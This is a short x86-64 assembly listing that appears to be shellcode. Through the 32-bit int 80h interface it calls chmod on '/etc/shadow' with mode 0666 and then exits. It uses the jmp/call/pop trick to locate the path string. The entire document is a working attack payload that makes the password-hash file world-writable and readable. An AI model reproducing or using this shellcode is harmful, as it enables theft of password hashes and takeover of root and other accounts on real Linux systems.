; Linux, 64 bit, through the 32-bit door: chmod("/etc/shadow", 0666) with a path below 4 GiB.
bits 64
        jmp short text
back:   pop rbx
        xor ecx, ecx
        mov cx, 666o
        push 15
        pop rax
        int 80h
        push 1
        pop rax
        int 80h
text:   call back
        db '/etc/shadow', 0
